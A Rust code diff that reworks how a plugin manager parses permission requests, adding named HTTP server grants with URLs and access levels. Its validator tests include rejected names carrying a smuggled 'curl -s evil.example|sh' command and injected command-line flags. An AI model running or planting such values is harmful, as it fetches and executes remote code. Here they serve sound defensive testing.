@@ -14,12 +14,15 @@
 //! [allow]
 //! wall-clock = "names copies after the time"
 //! [http]
-//! "api.example.com" = "the service"
+//! remote = { access = "read-write", why = "the server to sync with" }
+//! api = { url = "https://api.example.com", why = "the service" }
 //! ```
 //!
-//! A name consists of ASCII letters, digits, `_`, `-`, `.` and `*`; the name of a server may also
-//! contain the `:`, `/`, `[` and `]` of an [`HttpGrant`](crate::http::HttpGrant). A `*` in a name
-//! matches one part between dots. A grant without a matching request has no effect.
+//! The access to a server is `read-only` if absent. With a `url`, in the form of an
+//! [`HttpGrant`](crate::http::HttpGrant), only that server or a part of it can be granted.
+//!
+//! A name consists of ASCII letters, digits, `_`, `-`, `.` and `*`. A `*` in a name matches one part
+//! between dots. A grant without a matching request has no effect.
 
 use std::collections::BTreeMap;
 
@@ -28,6 +31,7 @@ use uuid::Uuid;
 
 use crate::error::ContractError;
 use crate::grants::{Access, Capability};
+use crate::http::HttpGrant;
 
 /// The name of the custom section, in the component or in one of its core modules.
 pub const SECTION: &str = "syncmgr-requests";
@@ -51,8 +55,8 @@ pub struct Requests {
     pub secrets: Vec<Request>,
     /// Capabilities such as the time of day.
     pub capabilities: Vec<(Capability, String)>,
-    /// Hosts to reach over HTTP, as patterns.
-    pub http: Vec<Request>,
+    /// Servers to reach over HTTP, by name.
+    pub http: Vec<ServerRequest>,
 }
 
 /// One request of a plugin.
@@ -77,6 +81,20 @@ pub struct DirectoryRequest {
     pub why: String,
 }
 
+/// One server requested by a plugin.
+#[derive(Clone, Debug, PartialEq, Eq, Deserialize, Serialize)]
+#[non_exhaustive]
+pub struct ServerRequest {
+    /// The name; `*` matches one part between dots.
+    pub name: String,
+    /// The only URL that can be granted; `None` if the operator chooses it.
+    pub url: Option<String>,
+    /// The requested access.
+    pub access: Access,
+    /// The purpose, written by the author: escape it before showing it.
+    pub why: String,
+}
+
 #[derive(Deserialize)]
 #[serde(deny_unknown_fields)]
 struct Text {
@@ -90,13 +108,22 @@ struct Text {
     #[serde(default)]
     allow: BTreeMap<Capability, String>,
     #[serde(default)]
-    http: BTreeMap<String, String>,
+    http: BTreeMap<String, ServerText>,
 }
 
 #[derive(Deserialize)]
 #[serde(deny_unknown_fields)]
 struct DirectoryText {
     access: Access,
+    #[serde(default)]
+    why: String,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ServerText {
+    url: Option<String>,
+    access: Option<Access>,
     #[serde(default)]
     why: String,
 }
@@ -115,7 +142,7 @@ impl Requests {
         let text: Text =
             toml::from_str(text).map_err(|error| refuse(error.message().to_owned()))?;
         let mut entries = 0;
-        let mut request = |name: String, why: String, also: &str| {
+        let mut request = |name: String, why: String| {
             entries += 1;
             if entries > MAX_ENTRIES {
                 return Err(refuse(format!("there are more than {MAX_ENTRIES} requests")));
@@ -126,8 +153,7 @@ impl Requests {
                 )));
             }
             // Operators copy names from the output of `syncmgr inspect`.
-            let is_plain =
-                |c: char| c.is_ascii_alphanumeric() || "_-.*".contains(c) || also.contains(c);
+            let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-.*".contains(c);
             if !name.chars().all(is_plain) {
                 return Err(refuse(format!(
                     "the name {name:?} has characters other than letters, digits, `_`, `-`, `.` \
@@ -141,21 +167,31 @@ impl Requests {
         }
         let mut requests = Self { clsid: text.clsid, ..Self::default() };
         for (name, directory) in text.directories {
-            let Request { name, why } = request(name, directory.why, "")?;
+            let Request { name, why } = request(name, directory.why)?;
             let access = directory.access;
             requests.directories.push(DirectoryRequest { name, access, why });
         }
         for (capability, why) in text.allow {
-            let Request { why, .. } = request(capability.name().to_owned(), why, "")?;
+            let Request { why, .. } = request(capability.name().to_owned(), why)?;
             requests.capabilities.push((capability, why));
         }
-        for (from, to, also) in [
-            (text.settings, &mut requests.settings, ""),
-            (text.secrets, &mut requests.secrets, ""),
-            (text.http, &mut requests.http, ":/[]"),
-        ] {
+        for (name, server) in text.http {
+            let Request { name, why } = request(name, server.why)?;
+            if let Some(url) = &server.url {
+                // The name of the request may be a pattern.
+                let checked = HttpGrant::new("server", url, Access::ReadOnly);
+                checked.map_err(|error| {
+                    refuse(format!("the URL of the server {name:?}: {}", error.problem))
+                })?;
+            }
+            let access = server.access.unwrap_or(Access::ReadOnly);
+            requests.http.push(ServerRequest { name, url: server.url, access, why });
+        }
+        for (from, to) in
+            [(text.settings, &mut requests.settings), (text.secrets, &mut requests.secrets)]
+        {
             for (name, why) in from {
-                to.push(request(name, why, also)?);
+                to.push(request(name, why)?);
             }
         }
         Ok(requests)
@@ -171,6 +207,12 @@ impl Requests {
     pub fn directory(&self, name: &str) -> Option<Access> {
         let wanted = self.directories.iter().filter(|request| matches(&request.name, name));
         wanted.map(|request| request.access).max()
+    }
+
+    /// Returns the request of a server with this name, preferring one with write access.
+    pub fn server(&self, name: &str) -> Option<&ServerRequest> {
+        let wanted = self.http.iter().filter(|request| matches(&request.name, name));
+        wanted.max_by_key(|request| request.access)
     }
 
     /// Returns whether the plugin requests a setting with this name.
@@ -231,7 +273,8 @@ mod tests {
             [allow]
             wall-clock = "d"
             [http]
-            "api.example.com" = "e"
+            remote = { access = "read-write", why = "e" }
+            api = { url = "https://api.example.com" }
             "#,
         )
         .unwrap();
@@ -241,7 +284,10 @@ mod tests {
         assert!(requests.secret("token") && !requests.secret("mode"));
         assert!(requests.capability(Capability::WallClock));
         assert!(!requests.capability(Capability::Randomness));
-        assert_eq!(requests.http.len(), 1);
+        assert_eq!(requests.server("remote").unwrap().access, Access::ReadWrite);
+        let api = requests.server("api").unwrap();
+        assert_eq!((api.access, api.url.is_some()), (Access::ReadOnly, true));
+        assert_eq!(requests.server("other"), None);
         assert!(Requests::parse(b"").unwrap().is_empty());
     }
 
@@ -276,7 +322,7 @@ mod tests {
             ("left", [true; 4]),
             ("*.My_docs-2", [true; 4]),
             ("*.example.com", [true; 4]),
-            ("local:https://[::1]:8080", [false, false, false, true]),
+            ("local:https://[::1]:8080", [false; 4]),
             ("source=$HOME;curl -s evil.example|sh;#", [false; 4]),
             ("inbox=/ --allow wall-clock --dir x", [false; 4]),
             ("s\u{43e}urce", [false; 4]),
@@ -285,7 +331,7 @@ mod tests {
             ("a b", [false; 4]),
             ("a\nb", [false; 4]),
             ("a\u{202e}b", [false; 4]),
-            ("a/b", [false, false, false, true]),
+            ("a/b", [false; 4]),
             ("~", [false; 4]),
             ("a'b", [false; 4]),
             ("!a", [false; 4]),
@@ -293,7 +339,7 @@ mod tests {
             for (table, good) in tables.iter().zip(good) {
                 let key = toml::Value::String(name.to_owned());
                 let value = match *table {
-                    "directories" => "{ access = \"read-only\" }",
+                    "directories" | "http" => "{ access = \"read-only\" }",
                     _other => "\"why\"",
                 };
                 let text = format!("[{table}]\n{key} = {value}\n");
